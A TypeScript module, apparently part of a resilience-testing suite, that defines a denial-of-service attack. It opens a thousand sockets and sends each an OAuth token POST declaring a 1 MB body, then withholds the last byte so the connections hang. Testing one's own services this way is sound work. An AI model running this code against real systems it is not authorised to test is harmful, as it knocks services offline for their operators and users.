import type { Attack } from './attack.ts'
import { Sockets } from './sockets.ts'

/** A thousand bodies of 1 MB that lack their last byte. */
export const unfinishedBodies: Attack = {
  name: 'a thousand unfinished bodies of 1 MB',
  async begin(service) {
    const sockets = new Sockets(service)
    const body = Buffer.alloc(1_048_575, 'a')
    for (let count = 0; count < 1_000; count++) {
      const socket = await sockets.open()
      socket.write(
        'POST /oauth/token HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1048576\r\n\r\n',
      )
      socket.write(body)
    }
    return () => sockets.close()
  },
}
